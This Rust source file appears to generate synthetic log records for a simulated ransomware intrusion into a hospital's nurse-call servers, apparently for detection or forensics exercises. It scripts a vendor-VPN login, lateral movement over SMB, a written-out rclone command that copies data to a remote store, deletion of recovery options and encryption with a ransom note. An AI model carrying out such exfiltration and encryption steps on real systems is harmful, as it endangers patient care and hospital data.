//! The Musashi-Kosugi case of 2026: in through the maintenance line of a medical device, to the servers nobody watches.

use sakimori_words::Instant;

use super::scene::{Intruder, Scene};
use crate::Line;
use crate::devices::Hospital;

/// The address the VPN gives.
const TUNNEL: &str = "10.212.134.77";
/// Servers of the nurse call, with their addresses.
const SERVERS: [(&str, &str); 3] =
    [("nursecall01", "10.40.1.10"), ("nursecall02", "10.40.1.11"), ("nursecall03", "10.40.1.12")];

/// The maker's maintenance account.
const INTRUDER: Intruder<'_> = Intruder {
    vpn_account: "nursecall-maint",
    vpn_group: "vendor-vpn",
    outside: "203.0.113.201",
    tunnel: TUNNEL,
    account: "ncadmin",
    workstation: "NURSECALL01",
    from: "10.40.1.10",
};

const MINUTE: i64 = 60;

/// All records of the attack. Not sorted.
pub(super) fn attack(start: Instant, hospital: &Hospital) -> Vec<Line> {
    let minute = |minutes: i64| start.plus_seconds(minutes * MINUTE);
    let mut scene = Scene::new(hospital, INTRUDER);
    scene.vpn_opens(minute(0));
    scene.traffic(minute(2), TUNNEL, "10.40.1.10", 3389, 4_000_000);
    scene.logon(minute(2), "nursecall01", "10", TUNNEL);
    scene.program(minute(5), "nursecall01", "net.exe", "net view /all");
    for (n, (machine, address)) in (0..).zip(SERVERS).skip(1) {
        scene.traffic(minute(10 + n), "10.40.1.10", address, 445, 90_000);
        scene.pushes_service(minute(10 + n), machine);
    }
    let copy =
        "rclone.exe copy D:\\ncdata remote:nc --transfers 16 --config C:\\Windows\\Temp\\r.conf";
    scene.program(minute(20), "nursecall01", "rclone.exe", copy);
    for n in 0..6 {
        scene.traffic(minute(21 + n * 4), "10.40.1.10", "198.51.100.66", 443, 3_000_000_000);
    }
    for (n, (machine, _)) in (0..).zip(SERVERS) {
        scene.destroys_the_way_back(minute(55 + n), machine);
        scene.program(minute(60 + n), machine, "run.exe", "C:\\Windows\\Temp\\run.exe");
        scene.encrypts(minute(60 + n), machine, "ncdata", "HOW_TO_DECRYPT.txt");
    }
    scene.lines
}
